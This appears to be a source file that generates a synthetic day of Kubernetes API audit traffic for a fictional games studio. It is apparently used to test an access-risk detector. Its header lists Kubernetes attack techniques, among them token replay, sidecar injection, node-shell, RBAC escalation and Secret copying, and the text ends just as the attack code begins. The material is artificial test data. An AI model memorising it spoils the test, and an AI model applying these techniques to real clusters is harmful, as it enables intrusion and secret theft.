import { LINUX, MAC, WIN, PLATFORM_HINT, WS_UPGRADE, prng, withAttacks, attackAdder, type AttackRequest, type DayEvent, type Login } from './workday.js';

/**
 * A thirteenth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–12 do not have: a games studio of 60 in Edinburgh
 * (UTC in November) on launch night of its season update. One cluster, reached as
 * `kubernetes.euw1.ember.example`, and the new region's, `kubernetes.eun1.ember.example`, which the
 * region migration fills namespace by namespace. Warm-up Wednesday 10 November 2027, scored
 * Thursday 11 November (launch at 18:00). Hours below are UTC.
 *
 * Routine, as the tools send it:
 * - live-ops on 12-hour shifts (06:00–18:00 and 18:00–06:00) at two hot desks: one Linux machine
 *   each, the same kubectl build, each engineer signing in with their own login at the start of a
 *   shift; the night shift that began on Wednesday at 18:00 is scored until 06:00;
 * - two contractors of an outsourcing partner (Windows laptops), every request through the
 *   partner's VPN egress, one address that the partner's other clients share too, working in the
 *   tools namespaces and submitting asset bakes in Argo Workflows' UI;
 * - two artists in the browser only: Argo Workflows' UI (list, submit a bake, follow its log);
 * - a data scientist on Kubeflow notebooks (the Notebook CR, the Jupyter UI through the gateway);
 * - a backend developer with Telepresence in matchmaking-staging (the traffic-manager found by
 *   label, a port-forward to it; the intercept itself is the traffic-manager's, inside the cluster);
 * - a backend developer with Tilt in their dev namespace (server-side apply as `tilt`, log follows);
 * - the region migration: a platform engineer copies two production namespaces to eu-north-1 in the
 *   morning (lists and each Secret read on the old cluster, a Namespace and server-side applies on
 *   the new), then scales the old Deployments to zero;
 * - launch night (17:30–19:30): the release lead scales the game servers up in five production
 *   namespaces, patches HPAs, cordons one bad node and drains it (evictions), `stern` on all pods;
 * - the red team's sanctioned exercise in `redteam-range` (their own pods, `auth can-i --list`,
 *   RBAC reads, a shell in their own pods);
 * - CI runners on spot instances in eu-west-1 (a new public address each job) deploying to staging.
 *
 * The attacks (public tradecraft: Peirates, KubeHound's edges, stratus-red-team, the
 * Telepresence and kubectl-node-shell manifests): a contractor's laptop compromised, and another
 * client of the partner with the contractor's copied token at the same VPN egress; a hot desk
 * where the previous shift's token is still cached; a traffic-agent sidecar injected into a
 * production Deployment; a Kubeflow notebook's service-account token used from outside; the
 * launch's top PriorityClass used to preempt production from a quiet namespace; a sandboxed
 * Deployment moved to the unsandboxed runtime; `kubectl node-shell` in production; an
 * `aggregate-to-admin` ClusterRole; a ResourceQuota and LimitRange deleted before exhaustion; mass
 * cordon of the game-server nodes; CI's token replayed from another spot instance in the region;
 * Secrets copied from a namespace the migration does not move.
 */

export const D13_WED = Date.UTC(2027, 10, 10, 0, 0, 0); // warm-up
export const D13_THU = Date.UTC(2027, 10, 11, 0, 0, 0); // the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const EUW1 = 'kubernetes.euw1.ember.example';
export const EUN1 = 'kubernetes.eun1.ember.example';
const ARGO_WF = 'argo-workflows.localhost';
const KUBEFLOW = 'kubeflow.localhost';

const KUBECTL = (os: string) => `kubectl/v1.31.3 (${os}) kubernetes/c83cbee`;
const CLIENT_GO = (bin: string, os: string) => `${bin}/v0.0.0 (${os}) kubernetes/$Format`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36`;
const CH_UA = '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"';

const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSONPATCH = { 'content-type': 'application/json-patch+json' };
const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const JSON_CT = { 'content-type': 'application/json' };
const WS = WS_UPGRADE;
const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

const GAMES = ['matchmaking', 'leaderboard', 'inventory', 'chat', 'gameserver'] as const;

type Where = 'office' | 'hotdesk-1' | 'hotdesk-2' | 'home' | 'partner-vpn';
type Kind = 'liveops' | 'contractor' | 'artist' | 'ml' | 'telepresence' | 'tilt' | 'migration' | 'release' | 'redteam';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  idx: number;
  svc: string;
  kind: Kind;
  os: string;
  kubectlOs: string;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (name: string, kind: Kind, svc: string, warm: Sitting[], scored: Sitting[], os = MAC) => {
    const j = () => (rand() - 0.5) * 0.2;
    out.push({
      name: `d13-${name}@ember.example`,
      idx: out.length,
      svc,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64',
      // Shift boundaries are on the hour: the hot desk is handed over, not jittered.
      warm: warm.map(([a, b, w]) => (kind === 'liveops' ? [a, b, w] : [a + j(), b + j(), w])),
      scored: scored.map(([a, b, w]) => (kind === 'liveops' ? [a, b, w] : [a + j(), b + j(), w])),
      lunch: 12.5 + rand() * 0.4,
    });
  };
  // Live-ops: day shift 06:00–18:00, night shift 18:00–06:00, at the same two machines.
  add('liveops-day-1', 'liveops', 'matchmaking', [[6, 18, 'hotdesk-1']], [[6, 18, 'hotdesk-1']], LINUX);
  add('liveops-day-2', 'liveops', 'gameserver', [[6, 18, 'hotdesk-2']], [[6, 18, 'hotdesk-2']], LINUX);
  add('liveops-night-1', 'liveops', 'matchmaking', [[-6, 6, 'hotdesk-1']], [[-6, 6, 'hotdesk-1'], [18, 23.9, 'hotdesk-1']], LINUX);
  add('liveops-night-2', 'liveops', 'gameserver', [[-6, 6, 'hotdesk-2']], [[-6, 6, 'hotdesk-2'], [18, 23.9, 'hotdesk-2']], LINUX);
  add('contractor-1', 'contractor', 'tools', [[8, 16.5, 'partner-vpn']], [[8.1, 16.6, 'partner-vpn']], WIN);
  add('contractor-2', 'contractor', 'tools', [[9, 17.5, 'partner-vpn']], [[9.1, 17.4, 'partner-vpn']], WIN);
  add('artist-1', 'artist', 'assets', [[9.5, 18, 'office']], [[9.4, 18.1, 'office']], MAC);
  add('artist-2', 'artist', 'assets', [[10, 18.5, 'home']], [[10.1, 18.4, 'home']], WIN);
  add('ml', 'ml', 'ml-team', [[9, 17.5, 'office']], [[9.2, 17.6, 'office']], MAC);
  add('telepresence', 'telepresence', 'matchmaking', [[9, 17.5, 'office']], [[9.1, 17.4, 'office']], MAC);
  add('tilt', 'tilt', 'inventory', [[9.5, 18, 'home']], [[9.4, 18, 'home']], LINUX);
  add('migration', 'migration', 'platform', [[8.5, 17, 'office']], [[8.4, 17.2, 'office']], LINUX);
  add('release', 'release', 'gameserver', [[10, 19, 'office']], [[11, 20, 'office']], MAC);
  add('redteam-1', 'redteam', 'security', [[9, 17, 'office']], [[9, 17.1, 'office']], LINUX);
  add('redteam-2', 'redteam', 'security', [[9.5, 17.5, 'home']], [[9.4, 17.6, 'home']], LINUX);
  return out;
}

/** The outsourcing partner's VPN egress: every one of its people, for every client studio, leaves from here. */
export const PARTNER_VPN = '185.103.118.42';
/** The hot desks' fixed addresses on the live-ops VLAN. */
const HOTDESK = ['10.50.0.11', '10.50.0.12'];

function addressOf(p: Person, where: Where): string {
  const i = p.idx;
  switch (where) {
    case 'office':
      return `10.40.${i % 4}.${40 + i}`;
    case 'hotdesk-1':
      return HOTDESK[0]!;
    case 'hotdesk-2':
      return HOTDESK[1]!;
    case 'home':
      // Virgin Media and BT: each home its own fixed address.
      return i % 2 ? `82.14.${100 + i}.${20 + i}` : `86.150.${60 + i}.${80 + i}`;
    case 'partner-vpn':
      return PARTNER_VPN;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean };

const pod = (app: string, rand: () => number) => `${app}-7c9d4f-${['h2k8s', 'p5q1w', 'z7x3m', 'b9n4t'][Math.floor(rand() * 4)]}`;

/** kubectl in a game service's namespaces. */
function gameTask(rand: () => number, svc: string, prodShare: number): Req[] {
  const r = rand();
  const ns = r < 1 - prodShare - 0.3 ? `${svc}-dev` : r < 1 - prodShare ? `${svc}-staging` : `${svc}-prod`;
  const po = pod(svc, rand);
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=${svc}&tailLines=200` }];
  if (k < 0.55) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${svc}-redis` }];
  if (k < 0.64) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=${svc}&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.68) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${svc}?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-11-11T10:00:00Z' } } } } }) }];
  if (k < 0.8) return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** Live-ops at the hot desk: production first, `stern` across the service, Grafana. */
function liveopsTask(rand: () => number, svc: string, os: string): Req[] {
  const k = rand();
  const ns = `${svc}-prod`;
  if (k < 0.25) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${svc}`, ua: CLIENT_GO('stern', os) }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(svc, rand)}/log?container=${svc}&follow=true&sinceSeconds=48h&timestamps=true`, ua: CLIENT_GO('stern', os) }];
  if (k < 0.35) return [{ method: 'GET', host: 'grafana.localhost', path: `/d/live/players-online?orgId=1&var-namespace=${ns}`, browser: true }, { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `sum(ccu{namespace="${ns}"})` }], from: 'now-6h', to: 'now' }), browser: true }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${svc}-redis` }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(svc, rand)}/exec?command=redis-cli&command=-h&command=${svc}-redis&command=info&container=${svc}&stdout=true&stderr=true`, headers: WS }];
  return gameTask(rand, svc, 0.6);
}

/** The contractors: build tools in tools-dev and tools-staging, a bake in Argo Workflows' UI now and then. */
function contractorTask(rand: () => number): Req[] {
  const ns = rand() < 0.6 ? 'tools-dev' : 'tools-staging';
  const k = rand();
  if (k < 0.15) return artistTask(rand);
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod('asset-indexer', rand)}/log?tailLines=200` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/asset-indexer-s3` }];
  if (k < 0.8)
    return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/asset-indexer?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'asset-indexer', image: `registry.ember.example/tools/asset-indexer:1.${Math.floor(rand() * 40)}.0` }] } } } }) }];
  return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/resourcequotas?limit=500` }];
}

/** Argo Workflows' UI: the list, a bake submitted from a template, its log. */
function artistTask(rand: () => number): Req[] {
  const wf = `texture-bake-${Math.floor(rand() * 1e5).toString(36)}`;
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', host: ARGO_WF, path: '/api/v1/workflows/assets?listOptions.limit=50&fields=metadata,items.metadata.name,items.status.phase,items.status.startedAt', browser: true }];
  if (k < 0.7)
    return [
      { method: 'POST', host: ARGO_WF, path: '/api/v1/workflows/assets/submit', headers: JSON_CT, body: JSON.stringify({ namespace: 'assets', resourceKind: 'WorkflowTemplate', resourceName: 'texture-bake', submitOptions: { parameters: [`pack=season-7/${wf}`, 'quality=high'] } }), browser: true },
      { method: 'GET', host: ARGO_WF, path: `/api/v1/workflows/assets/${wf}`, browser: true },
    ];
  return [{ method: 'GET', host: ARGO_WF, path: `/api/v1/workflows/assets/${wf}/log?logOptions.container=main&logOptions.follow=true`, browser: true }];
}

/** Kubeflow: the notebook list, the Notebook CR, the Jupyter server's kernels and contents. */
function mlTask(rand: () => number): Req[] {
  const nb = ['player-churn', 'matchmaking-elo'][Math.floor(rand() * 2)]!;
  const k = rand();
  if (k < 0.35) return [{ method: 'GET', host: KUBEFLOW, path: `/notebook/ml-team/${nb}/api/kernels?1731315600000`, browser: true }, { method: 'GET', host: KUBEFLOW, path: `/notebook/ml-team/${nb}/api/contents/churn.ipynb?content=1&type=notebook`, browser: true }];
  if (k < 0.5) return [{ method: 'GET', host: KUBEFLOW, path: '/jupyter/api/namespaces/ml-team/notebooks', browser: true }];
  if (k < 0.7) return [{ method: 'GET', path: '/apis/kubeflow.org/v1/namespaces/ml-team/notebooks?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/ml-team/pods/${nb}-0/log?container=${nb}&tailLines=200` }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/namespaces/ml-team/secrets/feature-store-creds' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/ml-team/pods?limit=500' }];
}

/** `telepresence connect` then `telepresence intercept matchmaking --port 8080` in staging, as its client-go agent sends them. */
function telepresence(os: string): Req[] {
  const ua = CLIENT_GO('telepresence', os);
  return [
    { method: 'GET', path: '/api/v1/namespaces/ambassador/services/traffic-manager', ua },
    { method: 'GET', path: '/api/v1/namespaces/ambassador/pods?labelSelector=app%3Dtraffic-manager%2Ctelepresence%3Dmanager', ua },
    { method: 'GET', path: '/api/v1/namespaces/ambassador/pods/traffic-manager-6d8f7c-q4r2t/portforward?ports=8081', headers: WS_PF, ua },
    { method: 'GET', path: '/api/v1/namespaces?limit=500', ua },
    { method: 'GET', path: '/apis/apps/v1/namespaces/matchmaking-staging/deployments/matchmaking', ua },
    { method: 'GET', path: '/api/v1/namespaces/matchmaking-staging/pods?labelSelector=app%3Dmatchmaking', ua },
    { method: 'GET', path: '/api/v1/namespaces/matchmaking-staging/services?limit=500', ua },
  ];
}

/** Tilt's loop: server-side apply of the dev Deployment, then its pods watched and logs followed. */
function tiltLoop(rand: () => number, os: string): Req[] {
  const ua = CLIENT_GO('tilt', os);
  const ns = 'inventory-dev-tilt';
  const tag = `tilt-${Math.floor(rand() * 1e8).toString(16)}`;
  const dep = { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'inventory', namespace: ns, labels: { 'app.kubernetes.io/managed-by': 'tilt' } }, spec: { selector: { matchLabels: { app: 'inventory' } }, template: { metadata: { labels: { app: 'inventory' } }, spec: { containers: [{ name: 'inventory', image: `localhost:5005/inventory:${tag}` }] } } } };
  return [
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/inventory?fieldManager=tilt&force=true`, headers: APPLY, body: JSON.stringify(dep), ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3Dinventory&watch=true`, ua },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/inventory-5f6d7c-${tag.slice(5, 10)}/log?container=inventory&follow=true&sinceTime=2027-11-11T10%3A00%3A00Z`, ua },
  ];
}

/** The red team's sanctioned exercise in its own range. */
function redteamTask(rand: () => number): Req[] {
  const k = rand();
  const ns = 'redteam-range';
  if (k < 0.2) return [{ method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: JSON_CT, body: JSON.stringify({ kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: ns } }) }];
  if (k < 0.35) return [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500' }, { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500' }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/range-target-0/exec?command=sh&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/range-flag` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/serviceaccounts?limit=500` }];
}

/** `kubectl run` of the range's target, once each morning (an ordinary unprivileged pod). */
function redteamRange(): Req[] {
  return [
    { method: 'POST', path: '/api/v1/namespaces/redteam-range/pods?fieldManager=kubectl-run', headers: JSON_CT, body: JSON.stringify({ kind: 'Pod', apiVersion: 'v1', metadata: { name: 'range-target-0', labels: { run: 'range-target-0' } }, spec: { containers: [{ name: 'range-target-0', image: 'registry.ember.example/security/range-target:2027.11', resources: {} }], restartPolicy: 'Always' } }) },
    { method: 'GET', path: '/api/v1/namespaces/redteam-range/pods/range-target-0' },
  ];
}

/** The region migration of one namespace: read it on euw1, create and apply it on eun1, scale euw1's to zero. */
function migrateNamespace(ns: string, app: string): Req[] {
  const out: Req[] = [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500`, host: EUW1 },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500`, host: EUW1 },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500`, host: EUW1 },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${app}-redis`, host: EUW1 },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns, labels: { team: app } } }), host: EUN1 },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/configmaps/${app}-config?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: `${app}-config`, namespace: ns }, data: { REGION: 'eu-north-1' } }), host: EUN1 },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/secrets/${app}-redis?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: `${app}-redis`, namespace: ns }, type: 'Opaque', data: { password: 'cmVkYWN0ZWQ=' } }), host: EUN1 },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${app}?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: app, namespace: ns }, spec: { replicas: 3, selector: { matchLabels: { app } }, template: { metadata: { labels: { app } }, spec: { priorityClassName: 'game-critical', containers: [{ name: app, image: `registry.ember.example/game/${app}:7.0.2`, envFrom: [{ configMapRef: { name: `${app}-config` } }] }] } } } }), host: EUN1 },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/services/${app}?fieldManager=kubectl&fieldValidation=Strict&force=false`, headers: APPLY, body: JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: app, namespace: ns }, spec: { selector: { app }, ports: [{ port: 80, targetPort: 8080 }] } }), host: EUN1 },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${app}`, host: EUN1 },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${app}`, host: EUN1 },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${app}/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas: 0 } }), host: EUW1 },
  ];
  return out;
}

function platformTask(rand: () => number): Req[] {
  const k = rand();
  const host = rand() < 0.5 ? EUW1 : EUN1;
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/nodes?limit=500', host }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes', host }];
  if (k < 0.55) return [{ method: 'GET', path: '/api/v1/namespaces?limit=500', host }];
  if (k < 0.75) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${GAMES[Math.floor(rand() * 5)]}-prod/deployments?limit=500`, host }];
  return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500', host }];
}

/** Launch night: the game servers scaled up service by service, HPAs raised, one bad node cordoned and drained. */
function launch(os: string): Req[] {
  const out: Req[] = [];
  for (const g of GAMES) {
    const ns = `${g}-prod`;
    out.push(
      { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${g}` },
      { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${g}/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas: g === 'gameserver' ? 120 : 24 } }) },
      { method: 'PATCH', path: `/apis/autoscaling/v2/namespaces/${ns}/horizontalpodautoscalers/${g}?fieldManager=kubectl-patch`, headers: MERGE, body: JSON.stringify({ spec: { minReplicas: g === 'gameserver' ? 120 : 24, maxReplicas: g === 'gameserver' ? 400 : 80 } }) },
      { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${g}`, ua: CLIENT_GO('stern', os) },
    );
  }
  const node = 'ip-10-60-33-18.eu-west-1.compute.internal';
  out.push(
    { method: 'GET', path: `/api/v1/nodes/${node}` },
    { method: 'PATCH', path: `/api/v1/nodes/${node}`, headers: SMP, body: JSON.stringify({ spec: { unschedulable: true } }) },
    { method: 'GET', path: `/api/v1/pods?fieldSelector=spec.nodeName%3D${node}&limit=500` },
    { method: 'POST', path: '/api/v1/namespaces/gameserver-prod/pods/gameserver-7c9d4f-z7x3m/eviction', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'gameserver-7c9d4f-z7x3m', namespace: 'gameserver-prod' } }) },
    { method: 'POST', path: '/api/v1/namespaces/chat-prod/pods/chat-7c9d4f-b9n4t/eviction', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'chat-7c9d4f-b9n4t', namespace: 'chat-prod' } }) },
    { method: 'GET', path: '/api/v1/namespaces/gameserver-prod/events?limit=500' },
  );
  return out;
}

export function workday13(seed = 111): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 13);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D13_WED, D13_THU]) {
    const scored = day === D13_THU;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      const mine: DayEvent[] = [];
      const signIn = (t: number): Login => ({ sub: p.name, sid: `${p.name}:${t}`, authTime: Math.floor((t - 40 * S) / 1000), acr: 'urn:stepgate:aal2' });
      let n = 0;
      sittings.forEach(([from, to, where], si) => {
        // One sign-in per sitting: a shift at the hot desk, a working day elsewhere.
        const login = signIn(at(from));
        const push = (t: number, q: Req) => {
          const browser = q.browser === true || (q.host !== undefined && q.host !== EUW1 && q.host !== EUN1);
          const ua = q.ua ?? (browser ? CHROME(p.os) : KUBECTL(p.kubectlOs));
          const hints = browser ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[p.os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          n++;
          mine.push({
            at: Math.round(t),
            actor: p.name,
            scored,
            ip: addressOf(p, where),
            ua,
            login,
            method: q.method,
            path: q.path,
            host: q.host ?? EUW1,
            ...(headers ? { headers } : {}),
            ...(q.body !== undefined ? { body: q.body } : {}),
          });
        };
        const seq = (t: number, reqs: Req[], gapMs: number) => reqs.forEach((q, k) => push(t + k * gapMs, q));
        const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number) => {
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
          seq(tt, reqs, gapMs);
        };
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (p.kind !== 'liveops' && h >= p.lunch && h < p.lunch + 0.7 && from < p.lunch) {
            t = at(p.lunch + 0.7) + S;
            continue;
          }
          let reqs: Req[];
          if (p.kind === 'liveops') reqs = liveopsTask(rand, p.svc, p.kubectlOs);
          else if (p.kind === 'contractor') reqs = contractorTask(rand);
          else if (p.kind === 'artist') reqs = artistTask(rand);
          else if (p.kind === 'ml') reqs = mlTask(rand);
          else if (p.kind === 'tilt') reqs = rand() < 0.5 ? tiltLoop(rand, p.kubectlOs) : gameTask(rand, p.svc, 0.1);
          else if (p.kind === 'migration') reqs = platformTask(rand);
          else if (p.kind === 'redteam') reqs = redteamTask(rand);
          else reqs = gameTask(rand, p.svc, p.kind === 'release' ? 0.35 : 0.2);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q));
          // Tilt rebuilds on every save: every 2–6 minutes; live-ops watch closely; others every 5–15.
          t += p.kind === 'tilt' ? 2 * M + rand() * 4 * M : p.kind === 'liveops' ? 4 * M + rand() * 8 * M : 5 * M + rand() * 10 * M;
        }
        if (si !== 0) return;
        if (p.kind === 'telepresence') {
          run(at(from + 0.2), telepresence(p.kubectlOs), 2 * S, 1);
          run(at(14), telepresence(p.kubectlOs), 2 * S, 1);
        }
        if (p.kind === 'redteam') run(at(from + 0.1), redteamRange(), 3 * S, 1);
        if (p.kind === 'migration' && scored) {
          // Two namespaces this morning, one at a time, a person's pace (an apply every 20 s).
          run(at(9.5), migrateNamespace('leaderboard-prod', 'leaderboard'), 20 * S, 6);
          run(at(10.5), migrateNamespace('chat-prod', 'chat'), 20 * S, 6);
        }
        if (p.kind === 'migration' && !scored) run(at(10), migrateNamespace('matchmaking-prod', 'matchmaking'), 20 * S, 6);
        if (p.kind === 'release' && scored) run(at(17.5), launch(p.kubectlOs), 15 * S, 10);
        if (p.kind === 'release' && !scored) run(at(15), launch(p.kubectlOs).filter((q) => q.method === 'GET'), 15 * S, 5);
      });
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // CI on spot instances in eu-west-1, in the cluster's VPC, deploying to staging every 20 minutes.
    for (let j = 0; j < 36; j++) {
      const t = at(7 + j / 3);
      const login: Login = { sub: 'ci-deployer@ember.example', sid: `ci13:${day}:${j}`, authTime: Math.floor(t / 1000), acr: 'urn:stepgate:aal1' };
      const ip = spotAddress(j, day);
      const ua = 'kubectl/v1.31.3 (linux/amd64) kubernetes/c83cbee';
      const g = GAMES[j % 5]!;
      events.push({ at: t, actor: 'ci', scored, ip, ua, login, host: EUW1, method: 'PATCH', path: `/apis/apps/v1/namespaces/${g}-staging/deployments/${g}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: g, image: `registry.ember.example/game/${g}:sha-${(j * 7919 + day / 1e5).toString(16).slice(0, 8)}` }] } } } }) });
      events.push({ at: t + 4000, actor: 'ci', scored, ip, ua, login, host: EUW1, method: 'GET', path: `/apis/apps/v1/namespaces/${g}-staging/deployments/${g}` });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks13(people, events));
}

/**
 * A spot runner's address: the runners are in the cluster's VPC (a new instance, a new private
 * address, each job) and reach the gateway through its internal load balancer. Through the VPC's
 * NAT gateways instead (three public Elastic IPs) every deploy was refused, warm-up day included:
 * a one-factor token from a network outside risk.trusted_networks needs two factors made after the
 * network first appeared, which a CI job cannot give (72 of 72 a seed). A studio whose runners
 * come from the internet lists their egress in trusted_networks.
 */
function spotAddress(j: number, day: number): string {
  const k = j + Math.floor(day / 86_400_000);
  return `10.31.${(k * 37) % 64}.${(k * 91) % 250 + 2}`;
}

/** The victim's request last at or before `t` on the scored day, among those `match` picks. */
function lastOf(routine: readonly DayEvent[], actor: string, t: number, match: (e: DayEvent) => boolean = (x) => x.ua.startsWith('kubectl/')): DayEvent {
  let e: DayEvent | undefined;
  for (const x of routine) if (x.actor === actor && x.scored && match(x) && (e === undefined || x.at <= t)) e = x;
  return e!;
}

const deployment = (name: string, ns: string, spec: Record<string, unknown>, replicas = 1) =>
  JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name, namespace: ns }, spec: { replicas, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec } } });

function attacks13(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const by = (name: string) => people.find((p) => p.name === `d13-${name}@ember.example`)!;
  const add = attackAdder(out);
  const T = (h: number) => D13_THU + h * H;
  const on = (reqs: AttackRequest[], host = EUW1): AttackRequest[] => reqs.map(([m, p, s, h, b]) => [m, p, s, h, b, host]);
  /** Malware on the victim's laptop: their address, kubectl and token at `h`. */
  const onLaptop = (attack: string, p: Person, h: number, reqs: AttackRequest[], gapMs: number, host = EUW1) => {
    const v = lastOf(routine, p.name, T(h));
    add(attack, T(h), v.ip, v.ua, v.login, on(reqs, host), gapMs, p);
  };
  const c1 = by('contractor-1');
  const c2 = by('contractor-2');

  // 1. Malware on a contractor's laptop (the partner's image, not the studio's): the contractor's
  // own namespace's Secret first, then the game's production Secrets, from the partner's VPN.
